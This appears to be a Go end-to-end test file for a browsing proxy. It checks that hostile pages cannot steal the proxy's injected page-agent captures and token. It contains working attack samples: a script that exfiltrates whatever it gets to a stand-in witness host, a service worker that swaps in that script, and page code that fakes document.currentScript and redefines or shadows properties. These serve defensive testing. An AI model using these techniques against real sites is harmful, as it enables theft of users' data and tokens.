package e2e

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/panel"
)

// The page agent arrives in two parts: a boot inlined before any page script, and the rest,
// loaded by a <script> the boot creates, which receives the boot's captures (and the token)
// through a window property that answers once, only to the boot's own element. These pages try
// to get that hand-over: a service worker that answers the rest's request with its own script,
// and page scripts that call, replace, redefine or shadow the property, fake
// document.currentScript, or load the real rest with an element of their own.

// restThief is the script a hostile page serves in place of the rest: it calls the hand-over
// and reports to the witness what it got, naming the element it runs as ("page" when the page
// created it, "boot" otherwise).
const restThief = `(function () {
  var got;
  try { got = window.__remixproxyRest(); } catch (e) { got = 'threw'; }
  var cs = document.currentScript;
  var who = cs && cs.hasAttribute('data-page') ? 'page' : 'boot';
  var what = got === null ? 'null' : (got && typeof got === 'object' ? 'captures:' + got.length : String(got));
  fetch('https://witness.test/' + who + '?got=' + encodeURIComponent(what), {mode: 'no-cors'});
})();`

// swRestSite registers a service worker that answers every request for the rest of the page
// agent (https://remix.proxy/agent/….js) with restThief, and tells the site it did (/seen).
func swRestSite() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/page.html", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>SW rest</title></head><body>
<p>A page whose service worker answers the page agent's requests.</p>
<script>
document.body.dataset.pageScript = 'ran';
navigator.serviceWorker.register('/sw.js');
// The control: the page's own element for the same address gets the service worker's script.
window.loadOwn = (src) => new Promise((resolve) => {
  const s = document.createElement('script');
  s.setAttribute('data-page', '');
  s.crossOrigin = 'anonymous';
  s.onload = () => resolve('loaded');
  s.onerror = () => resolve('error');
  s.src = src;
  document.head.appendChild(s);
});
</script>
</body></html>
`)
	})
	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Cache-Control", "no-store")
		fmt.Fprintf(w, `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const u = e.request.url;
  if (u.startsWith('https://remix.proxy/agent/') && u.endsWith('.js')) {
    fetch('/seen?' + encodeURIComponent(u));
    e.respondWith(new Response(%q, {headers: {'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*'}}));
  }
});
`, restThief)
	})
	mux.HandleFunc("/seen", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	return mux
}

// TestHostileServiceWorkerCannotRunAsTheRest: a page's service worker answers the request of the
// boot's <script> for the rest with its own script. The browser checks the answer against the
// rest's SRI hash and refuses it, so that script never runs and never receives the captures or
// the token: nothing reaches the witness from it. The control: the same answer, loaded by an
// element of the page's own, does run, and the hand-over gives it nothing.
func TestHostileServiceWorkerCannotRunAsTheRest(t *testing.T) {
	sites := e2etest.StartSites(t)
	sites.Handle("swrest.test", swRestSite())
	wit := &witness{}
	sites.Handle("witness.test", wit)
	p := e2etest.StartProxy(t, sites)
	tab := e2etest.Browser(t, e2etest.ThroughProxy(p)).NewTab(t)

	tab.Navigate("https://swrest.test/page.html")
	tab.WaitConnected() // the first load: no worker yet, the rest comes from the proxy
	tab.WaitFor(15*time.Second, "the service worker to control the page", `navigator.serviceWorker.controller !== null`)

	// The reload: the worker answers the rest's request.
	seenBefore := sites.Requests("swrest.test", "/seen")
	tab.Navigate("https://swrest.test/page.html")
	for deadline := time.Now().Add(10 * time.Second); sites.Requests("swrest.test", "/seen") == seenBefore; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the service worker never saw the rest's request: the test proves nothing")
		}
	}
	// The control: the page loads the same address itself and the worker's script runs.
	if got := e2etest.Eval[string](tab, `loadOwn('https://remix.proxy`+panel.RestPath()+`')`); got != "loaded" {
		t.Fatalf("the page's own element for the rest's address: %s, want loaded", got)
	}
	for deadline := time.Now().Add(10 * time.Second); len(wit.requests()) == 0; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the worker's script never reported, even as the page's element: the test proves nothing")
		}
	}
	time.Sleep(500 * time.Millisecond) // anything else on its way to the witness
	reqs := wit.requests()
	for _, r := range reqs {
		if !strings.Contains(r, "witness.test/page?got=null ") {
			t.Errorf("the witness received %s; want only the page element's empty-handed report", r)
		}
	}
	if tab.Connected() {
		t.Errorf("the page agent connected although its rest was refused: what ran as the rest?")
	}
	if !strings.Contains(tab.ConsoleLog(), "integrity") {
		t.Logf("console (no SRI message found):\n%s", tab.ConsoleLog())
	}
}

// handOverPage tries, from page scripts, to take the hand-over before and after the rest arrives.
// Its first script runs right after the boot, while the rest is still on its way.
func handOverPage() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Hand-over</title>
<script>
window.onerror = (m) => { (window.errors = window.errors || []).push(String(m)); };
const describe = (v) => v === null ? 'null' : Array.isArray(v) ? 'captures:' + v.length : String(v);
window.attempt = function (when) {
  const r = {when};
  const name = '__remixproxyRest';
  r.present = typeof window[name];
  try { r.call = describe(window[name]()); } catch (e) { r.call = 'threw'; }
  // document.currentScript faked to name the boot's element, found in the document.
  const el = document.querySelector('script[integrity]');
  r.elementFound = !!el;
  const d = Object.getOwnPropertyDescriptor(Document.prototype, 'currentScript');
  try {
    Object.defineProperty(Document.prototype, 'currentScript', {configurable: true, get() { return el; }});
    r.fakedCurrent = describe(window[name]());
  } catch (e) {
    r.fakedCurrent = 'threw';
  } finally {
    Object.defineProperty(Document.prototype, 'currentScript', d);
  }
  const mine = () => 'mine';
  try { window[name] = mine; } catch (e) { /* sloppy mode: silent */ }
  r.replaced = window[name] === mine;
  try { Object.defineProperty(window, name, {value: mine}); r.defined = 'ok'; } catch (e) { r.defined = 'threw'; }
  try { delete window[name]; } catch (e) { /* silent */ }
  r.deleted = !(name in window);
  r.writable = Object.getOwnPropertyDescriptor(window, name)?.writable;
  (window.attempts = window.attempts || []).push(r);
  return r;
};
attempt('before');
</script>
<script>let __remixproxyRest = () => 'shadow';</script>
<script>window.shadowed = (typeof __remixproxyRest === 'function') && String(__remixproxyRest());</script>
</head><body>
<p>A page that wants the page agent's captures.</p>
<script>
document.body.dataset.pageScript = 'ran';
// The real rest, loaded by an element of the page's own, with the right integrity.
window.loadRest = (src, integrity) => new Promise((resolve) => {
  const s = document.createElement('script');
  s.crossOrigin = 'anonymous';
  s.integrity = integrity;
  s.onload = () => resolve('loaded');
  s.onerror = () => resolve('error');
  s.src = src;
  document.head.appendChild(s);
});
</script>
</body></html>
`)
	})
}

// TestHostilePageCannotTakeTheHandOver: page scripts call, replace, redefine, delete and shadow
// the hand-over property and fake document.currentScript to name the boot's element, before the
// rest arrives (the boot's element is still in the document then: the hand-over removes it) and
// after; they load the real rest with an element of their own. They get nothing (null), the
// property stays, and the page agent still connects once, with one launcher.
func TestHostilePageCannotTakeTheHandOver(t *testing.T) {
	sites := e2etest.StartSites(t)
	sites.Handle("handover.test", handOverPage())
	p := e2etest.StartProxy(t, sites)
	tab := e2etest.Browser(t, e2etest.ThroughProxy(p)).NewTab(t)
	tab.Navigate("https://handover.test/")
	connectErr := tab.WaitConnectedErr(e2etest.ConnectedTimeout)

	e2etest.Eval[bool](tab, `attempt('after') && true`)
	if got := e2etest.Eval[string](tab, `loadRest('https://remix.proxy`+panel.RestPath()+`', '`+panel.RestIntegrity()+`')`); got != "loaded" {
		t.Errorf("the page's own element with the real rest: %s, want loaded (the control)", got)
	}
	time.Sleep(300 * time.Millisecond)
	got := e2etest.Eval[string](tab, `JSON.stringify({attempts: window.attempts, shadowed: window.shadowed, errors: window.errors || [],
		launchers: document.querySelectorAll('[data-remixproxy-launcher]').length})`)
	for _, want := range []string{
		`"when":"before","present":"function","call":"null","elementFound":true,"fakedCurrent":"null","replaced":false,"defined":"threw","deleted":false,"writable":false`,
		`"when":"after","present":"function","call":"null"`,
		`"fakedCurrent":"null","replaced":false,"defined":"threw","deleted":false,"writable":false}]`,
		`"shadowed":"null"`,
		`"launchers":1`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("the page's attempts: %s\nwant %s in it", got, want)
		}
	}
	if !strings.Contains(got, `"errors":["`) || !strings.Contains(got[strings.Index(got, `"errors"`):], "__remixproxyRest") {
		t.Errorf("the shadowing let did not fail: %s", got)
	}
	if connectErr != nil {
		t.Errorf("the page agent did not connect: %v", connectErr)
	} else if !tab.Connected() {
		t.Errorf("the page agent is not connected after the attempts\n%s", tab.Diagnose())
	}
}
